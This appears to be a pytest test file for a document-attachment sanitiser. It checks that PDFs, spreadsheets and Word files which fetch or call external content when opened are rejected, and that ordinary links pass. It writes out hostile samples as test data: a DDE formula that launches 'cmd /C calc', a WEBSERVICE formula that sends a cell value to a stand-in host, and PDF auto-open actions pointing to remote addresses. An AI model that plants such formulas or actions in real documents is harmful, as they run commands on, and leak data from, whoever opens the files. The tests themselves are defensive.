"""An attachment that fetches or calls elsewhere is refused; a link somebody clicks stays, and where it goes is told."""

from __future__ import annotations

import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from pikepdf import Array, Dictionary, Name, String

from tests.felles import vedleggsfiler as lag
from tillit.felles.vedlegg.rensing import Renset, VedleggAvvist, rens
from tillit.felles.vedlegg.slag import Vedleggsmerknad

OFFICE = "andre filer eller steder"
UTENFRA = "henter innhold fra andre steder"
URI = Dictionary(S=Name.URI, URI=String("https://x.invalid/spor"))
TIL_ANDRE = Dictionary(S=Name.GoToR, F=String("\\\\x.invalid\\felles\\a.pdf"))
LENKE_SOM_RINGER = Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 1, 1]), AA=Dictionary(PV=URI))


def renset(tmp_path: Path, innhold: bytes) -> Renset:
    sti = tmp_path / "fil"
    sti.write_bytes(innhold)
    return rens(sti)


PDF: dict[str, tuple[Callable[[], bytes], str]] = {
    "en adresse": (lambda: lag.pdf(OpenAction=URI), UTENFRA),
    "en annen fil": (lambda: lag.pdf(OpenAction=TIL_ANDRE), UTENFRA),
    "etter noe annet": (
        lambda: lag.pdf(OpenAction=Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.Named, Next=URI)]))),
        UTENFRA,
    ),
    "fra en side": (lambda: lag.pdf_med_side(AA=Dictionary(O=URI)), UTENFRA),
    "fra en merknad": (lambda: lag.pdf_med_side(Annots=Array([LENKE_SOM_RINGER])), UTENFRA),
    "en traad i en annen fil": (
        lambda: lag.pdf(AA=Dictionary(WC=Dictionary(S=Name.Thread, F=String("a.pdf")))),
        UTENFRA,
    ),
    "uten ende": (lag.pdf_uten_ende, UTENFRA),
    "en fil i filen": (lambda: lag.pdf(OpenAction=Dictionary(S=Name.GoToE, F=String("a.pdf"))), UTENFRA),
    "sender skjemaet": (
        lambda: lag.pdf(OpenAction=Dictionary(S=Name.SubmitForm, F=String("https://x.invalid"))),
        "har et program",
    ),
    "henter til skjemaet": (
        lambda: lag.pdf(OpenAction=Dictionary(S=Name.ImportData, F=String("a.fdf"))),
        "har et program",
    ),
    "program i en rot som staar i halen": (lag.pdf_med_rot_i_halen, "har et program"),
    "innhold et annet sted": (
        lambda: lag.pdf_med_stroem(F=Dictionary(FS=Name.URL, F=String("https://x.invalid/a"))),
        UTENFRA,
    ),
    "en side i en annen fil": (lambda: lag.pdf_med_stroem(Ref=Dictionary(F=String("a.pdf"), Page=0)), UTENFRA),
}


@pytest.mark.parametrize("hva", PDF)
def test_en_pdf_som_gaar_ut_naar_den_aapnes_avvises(tmp_path: Path, hva: str) -> None:
    gjoer, grunn = PDF[hva]
    with pytest.raises(VedleggAvvist) as avvist:
        renset(tmp_path, gjoer())
    assert grunn in str(avvist.value.melding)


def test_en_pdf_kan_aapnes_paa_en_side_i_seg_selv(tmp_path: Path) -> None:
    siden = Array([0, Name.Fit])
    for handling in (siden, Dictionary(S=Name.GoTo, D=siden, Next=Dictionary(S=Name.Named, N=Name.LastPage))):
        assert renset(tmp_path, lag.pdf(OpenAction=handling)).merknader == ()


@pytest.mark.parametrize("adresse", ["file:///G:/felles/a.docx", "\\\\x.invalid\\felles\\a.docx", "G:\\a.docx"])
def test_en_lenke_til_en_fil_sies_det_fra_om(tmp_path: Path, adresse: str) -> None:
    assert renset(tmp_path, lag.pdf_med_lenke(adresse)).merknader == (Vedleggsmerknad.LENKER,)


@pytest.mark.parametrize(
    "adresse", ["https://www.oslo.kommune.no/", "www.x.invalid", "mailto:a@x.invalid", "tel:21802180"]
)
def test_en_vanlig_lenke_er_det_ingenting_aa_si_om(tmp_path: Path, adresse: str) -> None:
    assert renset(tmp_path, lag.pdf_med_lenke(adresse)).merknader == ()


FORMLER = [
    '_xlfn.WEBSERVICE("http://x.invalid/?"&amp;A2)',
    '_xlfn.IMAGE("http://x.invalid/p.png")',
    'RTD("a",,"b")',
    "cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
    "'\\\\x.invalid\\felles\\[a.xlsx]Ark1'!A1",
    "'http://x.invalid/[a.xlsx]Ark1'!A1",
    "[a.xlsx]Ark1!A1",
    "SUM([1]Ark1!A1)",
]


def felt(instruks: str) -> bytes:
    return lag.docx(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{instruks}</w:instrText></w:r></w:p>')


@pytest.mark.parametrize("formel", FORMLER)
def test_en_formel_som_henter_fra_andre_avvises(tmp_path: Path, formel: str) -> None:
    with pytest.raises(VedleggAvvist, match=OFFICE):
        renset(tmp_path, lag.xlsx_med_formel(formel))


@pytest.mark.parametrize(
    "formel",
    [
        'IF(A1="Se IMAGE(x) | [a]Ark!", 1, 2)',
        "'Ark | 2'!A1+'Jan:Mar'!B2",
        "SUM(Tabell1[[#This Row],[Sum]])-Tabell1[Sum]/Ark1!A1",
        'HYPERLINK("https://www.oslo.kommune.no","Oslo")',
        "'Ola''s ark'!A1",
    ],
)
def test_en_vanlig_formel_er_det_ingenting_aa_si_om(tmp_path: Path, formel: str) -> None:
    assert renset(tmp_path, lag.xlsx_med_formel(formel)).merknader == ()


def test_en_lang_formel_leses_fort(tmp_path: Path) -> None:
    for formel in ("'" * 8000, "'a" * 4000, "[" * 8000, '"' * 7999, "'[" * 4000, "WEBSERVICE " * 700):
        foer = time.process_time()
        with suppress(VedleggAvvist):
            renset(tmp_path, lag.xlsx_med_formel(formel))
        assert time.process_time() - foer < 2


@pytest.mark.parametrize(
    "instruks",
    [
        'INCLUDE "http://x.invalid/a"',
        ' RD "\\\\\\\\x.invalid\\\\a.docx"',
        "DDE cmd",
        'INCLUDEPICTURE "http://x.invalid/a"',
    ],
)
def test_et_felt_som_henter_fra_andre_avvises(tmp_path: Path, instruks: str) -> None:
    with pytest.raises(VedleggAvvist, match=OFFICE):
        renset(tmp_path, felt(instruks))
    stroeket = (
        f'PAGE</w:instrText><w:fldChar w:fldCharType="begin"/><w:delInstrText>{instruks}</w:delInstrText><w:instrText>'
    )
    with pytest.raises(VedleggAvvist, match=OFFICE):
        renset(tmp_path, felt(stroeket))


@pytest.mark.parametrize(
    "adresse", ['"file:///G:/a.docx"', '"\\\\\\\\x.invalid\\\\a"', "\\\\\\\\x.invalid\\\\a", "file:///a"]
)
def test_en_lenke_i_et_felt_eller_en_formel_sies_det_fra_om(tmp_path: Path, adresse: str) -> None:
    assert renset(tmp_path, felt(f" HYPERLINK {adresse} \\o")).merknader == (Vedleggsmerknad.LENKER,)
    formel = adresse if adresse.startswith('"') else f'"{adresse}"'
    assert renset(tmp_path, lag.xlsx_med_formel(f'HYPERLINK({formel},"a")')).merknader == (Vedleggsmerknad.LENKER,)


@pytest.mark.parametrize(
    "instruks", ['HYPERLINK "https://x.invalid/link/include/rd"', 'HYPERLINK \\l "_Toc1"', "PAGE", "DATE"]
)
def test_et_vanlig_felt_er_det_ingenting_aa_si_om(tmp_path: Path, instruks: str) -> None:
    assert renset(tmp_path, felt(instruks)).merknader == ()
